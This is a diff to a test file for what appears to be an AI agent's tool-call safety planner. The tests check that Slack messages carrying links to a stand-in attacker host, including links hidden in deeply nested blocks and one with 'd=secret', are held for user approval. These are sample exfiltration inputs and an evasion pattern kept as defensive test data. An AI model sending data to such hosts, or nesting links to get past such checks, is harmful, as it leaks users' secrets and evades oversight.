@@ -612,6 +612,19 @@ describe("security review: targets a hostile text could pass off as named", () =
     expect(
       plan("slack_send_message", { channel: "#team", text: "https://evil.example/collect" }).verdict,
     ).toBe("ask");
+    // A link nested deeper than Delegate reads (blocks in toggles in toggles) is asked about too.
+    const nest = (depth: number, leaf: unknown): unknown =>
+      depth === 0 ? leaf : { children: [nest(depth - 1, leaf)] };
+    expect(
+      plan("slack_send_message", {
+        channel: "#team",
+        text: "x",
+        blocks: nest(8, { url: "https://evil.example/c?d=secret" }),
+      }).verdict,
+    ).toBe("ask");
+    expect(
+      plan("slack_send_message", { channel: "#team", text: "x", blocks: nest(2, { note: "fine" }) }).verdict,
+    ).toBe("run");
     // What the person typed, and text that merely mentions an address, are not asked about.
     expect(plan("slack_send_message", { channel: "#team", text: "https://docs.example/q3" }).verdict).toBe(
       "run",
